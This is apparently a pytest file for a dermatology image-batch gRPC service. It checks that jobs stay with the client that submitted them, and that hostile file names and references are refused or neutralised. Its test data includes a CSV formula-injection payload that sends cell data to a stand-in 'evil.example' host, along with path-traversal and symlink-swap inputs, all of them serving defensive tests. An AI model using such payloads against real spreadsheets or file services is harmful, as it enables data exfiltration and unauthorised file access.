"""Issue 11's batch attacks, against the real front (token auth on, BatchJobs hosted), a real
redis-server and an in-process worker: jobs of one client are invisible to another, hostile file
names and references get stable reasons (never INTERNAL) and never reach the logs, and results
files neither break nor carry formulas."""

from __future__ import annotations

import csv
import logging
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import grpc
import pytest
import redis

from dermserve.core.tls import channel_credentials
from dermserve.service.auth import TokenTable
from dermserve.service.metrics import Metrics
from dermserve.service.server import create_server
from dermserve.service.settings import SecuritySettings
from dermserve.v1 import batch_jobs_pb2 as pb
from dermserve.v1 import batch_jobs_pb2_grpc as pb_grpc
from dermserve.worker.settings import WorkerSettings
from devtools.attack.pki import client_certificate
from tests.pki import make_pki
from tests.service.conftest import reason_of, server_settings
from tests.worker.conftest import FakeBackend, jpeg_bytes, run_worker_burst, write_images
from tests.worker.test_front import batch_services

TOKENS = """
alice-tok  dermserve.v1.BatchJobs  name=alice
bob-tok    dermserve.v1.BatchJobs  name=bob
ops-tok    role=operator name=ops
"""


@dataclass
class Client:
    """A BatchJobs stub that sends one token."""

    stub: pb_grpc.BatchJobsStub
    token: str

    def call(self, method: str, request: object) -> object:
        metadata = (("authorization", f"Bearer {self.token}"),)
        return getattr(self.stub, method)(request, metadata=metadata, timeout=10)

    def submit(self, request: pb.SubmitBatchJobRequest) -> pb.SubmitBatchJobResponse:
        response: pb.SubmitBatchJobResponse = self.call("SubmitBatchJob", request)
        return response

    def get(self, job_id: str) -> pb.BatchJob:
        response: pb.GetBatchJobResponse = self.call("GetBatchJob",
                                                     pb.GetBatchJobRequest(job_id=job_id))
        return response.job

    def results(self, job_id: str) -> list[pb.BatchImageResult]:
        response: pb.ListBatchJobResultsResponse = self.call(
            "ListBatchJobResults", pb.ListBatchJobResultsRequest(job_id=job_id, page_size=100))
        return list(response.results)

    def refused(self, method: str, request: object) -> tuple[grpc.StatusCode, str | None]:
        with pytest.raises(grpc.RpcError) as caught:
            self.call(method, request)
        return caught.value.code(), reason_of(caught.value)


@dataclass
class Front:
    alice: Client
    bob: Client
    ops: Client


@pytest.fixture
def front(settings: WorkerSettings, tmp_path: Path) -> Iterator[Front]:
    tokens = tmp_path / "tokens"
    tokens.write_text(TOKENS)
    server, port = create_server(
        server_settings(security=SecuritySettings(auth_tokens_file=tokens)), FakeBackend(),
        Metrics(), extra_services=batch_services(settings))
    server.start()
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    stub = pb_grpc.BatchJobsStub(channel)
    yield Front(Client(stub, "alice-tok"), Client(stub, "bob-tok"), Client(stub, "ops-tok"))
    channel.close()
    server.stop(None)


def files(*paths: str, client_job_id: str = "") -> pb.SubmitBatchJobRequest:
    return pb.SubmitBatchJobRequest(files=pb.FileReferences(paths=list(paths)),
                                    client_job_id=client_job_id)


def finish(settings: WorkerSettings, client: Client, job_id: str) -> pb.BatchJob:
    run_worker_burst(settings, FakeBackend())
    return client.get(job_id)


# --- defect 2: jobs belong to the identity that submitted them -------------------------------
def test_another_token_holder_can_neither_reuse_nor_see_nor_cancel_a_job(
        front: Front, settings: WorkerSettings, input_root: Path) -> None:
    write_images(input_root / "alice", 3)
    write_images(input_root / "bob", 2)
    alice_job = front.alice.submit(files("alice", client_job_id="nightly")).job
    bobs = front.bob.submit(files("bob", client_job_id="nightly"))
    assert bobs.created and bobs.job.job_id != alice_job.job_id  # the key is per owner
    again = front.alice.submit(files("alice", client_job_id="nightly"))
    assert (again.created, again.job.job_id) == (False, alice_job.job_id)

    stolen = alice_job.job_id
    for method, request in [
            ("GetBatchJob", pb.GetBatchJobRequest(job_id=stolen)),
            ("ListBatchJobResults", pb.ListBatchJobResultsRequest(job_id=stolen)),
            ("CancelBatchJob", pb.CancelBatchJobRequest(job_id=stolen))]:
        assert front.bob.refused(method, request) == (grpc.StatusCode.NOT_FOUND, "JOB_NOT_FOUND")
    with pytest.raises(grpc.RpcError) as caught:
        list(front.bob.call("WatchBatchJob", pb.WatchBatchJobRequest(job_id=stolen)))  # type: ignore[call-overload]
    assert caught.value.code() == grpc.StatusCode.NOT_FOUND

    assert finish(settings, front.alice, stolen).state == pb.BATCH_JOB_STATE_SUCCEEDED
    watched = front.alice.call("WatchBatchJob", pb.WatchBatchJobRequest(job_id=stolen))
    assert [m.job.state for m in watched][-1] == pb.BATCH_JOB_STATE_SUCCEEDED  # type: ignore[attr-defined]
    assert [r.reference for r in front.alice.results(stolen)] == [
        f"alice/img_{i:04d}.jpg" for i in range(3)]
    assert [r.reference for r in front.bob.results(bobs.job.job_id)] == [
        f"bob/img_{i:04d}.jpg" for i in range(2)]  # bob's own images were classified
    assert front.ops.get(stolen).done_images == 3  # an operator sees every job
    assert len(front.ops.results(bobs.job.job_id)) == 2


def test_without_tokens_a_client_certificate_subject_owns_its_jobs(
        settings: WorkerSettings, input_root: Path, tmp_path: Path) -> None:
    pki = make_pki(tmp_path / "pki")
    clinics = {name: client_certificate(pki, name) for name in ("clinic-a", "clinic-b")}
    security = SecuritySettings(tls_cert=pki.server_cert, tls_key=pki.server_key,
                                tls_client_ca=pki.ca)
    server, port = create_server(server_settings(security=security), FakeBackend(), Metrics(),
                                 extra_services=batch_services(settings))
    server.start()
    write_images(input_root / "clinic", 1)

    def stub(name: str) -> pb_grpc.BatchJobsStub:
        credentials = channel_credentials(pki.ca, *clinics[name])
        return pb_grpc.BatchJobsStub(grpc.secure_channel(f"localhost:{port}", credentials))

    try:
        job = stub("clinic-a").SubmitBatchJob(files("clinic"), timeout=10).job
        assert stub("clinic-a").GetBatchJob(pb.GetBatchJobRequest(job_id=job.job_id),
                                            timeout=10).job.job_id == job.job_id
        with pytest.raises(grpc.RpcError) as caught:
            stub("clinic-b").GetBatchJob(pb.GetBatchJobRequest(job_id=job.job_id), timeout=10)
        assert caught.value.code() == grpc.StatusCode.NOT_FOUND
    finally:
        server.stop(None)


def test_token_options_name_the_identity_and_the_operator_role() -> None:
    table = TokenTable.parse(TOKENS)
    callers = [grant.caller for grant in table.grants]
    assert [(c.identity, c.operator) for c in callers] == [
        ("token:alice", False), ("token:bob", False), ("token:ops", True)]
    unnamed = TokenTable.parse("secret-tok").grants[0].caller
    assert unnamed.identity.startswith("token:") and "secret" not in unnamed.identity
    with pytest.raises(ValueError):
        TokenTable.parse("tok role=admin")


# --- defects 7, 10, 14: what results carry --------------------------------------------------
def test_a_latin1_file_name_is_classified_and_shown_percent_encoded(
        front: Front, settings: WorkerSettings, input_root: Path) -> None:
    clinic = input_root / "clinic"
    write_images(clinic, 2)
    with open(os.path.join(os.fsencode(clinic), b"caf\xe9.jpg"), "wb") as handle:
        handle.write(jpeg_bytes(7))
    job = front.alice.submit(files("clinic")).job
    done = finish(settings, front.alice, job.job_id)
    assert done.state == pb.BATCH_JOB_STATE_SUCCEEDED, done
    results = front.alice.results(job.job_id)
    assert [r.reference for r in results] == [
        "clinic/caf%E9.jpg", "clinic/img_0000.jpg", "clinic/img_0001.jpg"]
    assert all(r.top_label and not r.HasField("error") for r in results)
    exported = Path(done.results_csv_path).read_text(encoding="utf-8")
    assert "clinic/caf%E9.jpg" in exported


def test_directory_references_are_relative_to_their_input_root(
        front: Front, settings: WorkerSettings, input_root: Path) -> None:
    write_images(input_root / "a" / "b", 2)
    job = front.alice.submit(files(str(input_root / "a"))).job
    finish(settings, front.alice, job.job_id)
    references = [r.reference for r in front.alice.results(job.job_id)]
    assert references == ["a/b/img_0000.jpg", "a/b/img_0001.jpg"]


def test_csv_cells_that_spreadsheets_would_run_are_quoted(
        front: Front, settings: WorkerSettings) -> None:
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)",
             "\tcmd", "\rcmd", "plain.jpg", "-1.5"]
    images = [pb.InlineImage(name=name, data=jpeg_bytes(i)) for i, name in enumerate(names[:5])]
    images += [pb.InlineImage(name=name, data=jpeg_bytes(9)) for name in names[5:]]
    job = front.alice.submit(pb.SubmitBatchJobRequest(
        inline=pb.InlineImages(images=images[:5]))).job
    second = front.alice.submit(pb.SubmitBatchJobRequest(
        inline=pb.InlineImages(images=images[5:]))).job
    for submitted in (job, second):
        done = finish(settings, front.alice, submitted.job_id)
        assert done.state == pb.BATCH_JOB_STATE_SUCCEEDED
    cells = [row["reference"] for submitted in (job, second) for row in csv_rows(
        Path(front.alice.get(submitted.job_id).results_csv_path))]
    assert cells == ["'" + names[0], "'+1+2", "'-2+3", "'@SUM(A1)", "'\tcmd", "'\rcmd",
                     "plain.jpg", "-1.5"]
    assert front.alice.results(job.job_id)[0].reference == names[0]  # the API keeps it raw


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # keep a quoted CR a CR
        return list(csv.DictReader(handle))


# --- defects 9, 11, 12, 13: hostile references ----------------------------------------------
def test_a_folder_swapped_for_a_symlink_after_submission_is_never_read_through(
        front: Front, settings: WorkerSettings, input_root: Path, tmp_path: Path) -> None:
    write_images(input_root / "clinic", 1)
    write_images(input_root / "other", 1)
    write_images(tmp_path / "outside", 1)
    inside = front.alice.submit(files("clinic/img_0000.jpg")).job
    outside = front.alice.submit(files("clinic/img_0000.jpg")).job
    for job, target in ((inside, input_root / "other"), (outside, tmp_path / "outside")):
        (input_root / "clinic").rename(input_root / f"clinic-{job.job_id}")
        (input_root / "clinic").symlink_to(target, target_is_directory=True)
        done = finish(settings, front.alice, job.job_id)
        (input_root / "clinic").unlink()
        (input_root / f"clinic-{job.job_id}").rename(input_root / "clinic")
        [result] = front.alice.results(job.job_id)
        assert (done.failed_images, result.error.reason) == (1, "SYMLINK_REFUSED")


@pytest.fixture
def logged(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    caplog.set_level(logging.DEBUG)
    return caplog


def test_hostile_references_get_stable_reasons_and_stay_out_of_the_logs(
        front: Front, input_root: Path, tmp_path: Path,
        logged: pytest.LogCaptureFixture) -> None:
    write_images(input_root / "clinic", 1)
    (input_root / "loop").symlink_to(input_root / "loop")
    secret = "patient-4711-smith"
    attempts = {
        "REFERENCE_OUTSIDE_INPUT_ROOTS": files(f"../{secret}.jpg"),
        "REFERENCE_TOO_LONG": files(f"{secret}/" * 300),
        "SYMLINK_LOOP": files(f"loop/{secret}.jpg"),
        "BAD_MANIFEST": pb.SubmitBatchJobRequest(manifest=pb.Manifest(
            csv=f"path\n{secret}{'x' * 200_000}.jpg\n")),
    }
    attempts["REFERENCE_TOO_LONG "] = files(f"{secret}{'y' * 300}.jpg")  # one long component
    for reason, request in attempts.items():
        code, got = front.alice.refused("SubmitBatchJob", request)
        assert (code, got) == (grpc.StatusCode.INVALID_ARGUMENT, reason.strip()), reason
    assert secret not in logged.text
    assert str(input_root) not in logged.text and str(tmp_path) not in logged.text
    assert not [r for r in logged.records if r.levelno >= logging.ERROR]


def test_a_manifest_with_a_byte_order_mark_has_its_header_recognised(
        front: Front, input_root: Path) -> None:
    write_images(input_root / "clinic", 2)
    text = "\ufeffpath,lesion\nclinic/img_0000.jpg,L1\nclinic/img_0001.jpg,L2\n"
    (input_root / "list.csv").write_bytes(text.encode("utf-8"))
    from_file = front.alice.submit(pb.SubmitBatchJobRequest(
        manifest=pb.Manifest(path="list.csv"))).job
    inline = front.alice.submit(pb.SubmitBatchJobRequest(manifest=pb.Manifest(csv=text))).job
    assert (from_file.total_images, inline.total_images) == (2, 2)


def test_a_full_job_store_is_resource_exhausted(front: Front, settings: WorkerSettings,
                                                input_root: Path) -> None:
    write_images(input_root / "clinic", 1)
    client = redis.Redis.from_url(settings.redis_url)
    client.config_set("maxmemory", 1)  # every write is refused with OOM from now on
    try:
        code, reason = front.alice.refused("SubmitBatchJob", files("clinic"))
    finally:
        client.config_set("maxmemory", 0)
        client.close()
    assert (code, reason) == (grpc.StatusCode.RESOURCE_EXHAUSTED, "JOB_STORE_FULL")
